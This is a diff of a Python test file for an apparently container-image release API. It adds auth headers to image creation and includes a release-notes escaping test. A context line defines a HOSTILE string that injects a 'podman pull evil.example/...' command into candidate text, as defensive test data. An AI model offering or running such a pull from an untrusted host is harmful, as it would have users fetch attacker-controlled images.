@@ -292,7 +292,6 @@ async def test_api_delivery_to_a_private_name_is_a_failed_delivery(
     await ok(await api_client.post("/api/v1/webhooks", json={
         "url": f"http://localhost:{server.port}/hook"}), 201)
     await setup(api_client)
-    await ok(await api_client.post("/api/v1/images", json={"repository": "f25/x"}), 201)
     await ok(await api_client.post("/api/v1/images/f25/x/streams/1/eol"))
     for _ in range(100):
         [item] = (await ok(await api_client.get("/api/v1/webhooks/deliveries")))["deliveries"]
@@ -310,6 +309,9 @@ HOSTILE = ("ok\n\n## f25/b\n\n```\npodman pull evil.example/f25/b:latest\n```\n"
 async def test_api_release_notes_escape_candidate_text(api_client: Client,
                                                        db: sa.Engine) -> None:
     await setup(api_client)
+    for repo in ("f25/a", "f25/b"):
+        await ok(await api_client.post("/api/v1/images", json={"repository": repo},
+                                       headers=AUTH), 201)
     da = await push(api_client, "f25/a", "1", "1.f25docker")
     db_ = await push(api_client, "f25/b", "1", "1.f25docker")
     await ok(await api_client.post("/api/v1/candidates", json={
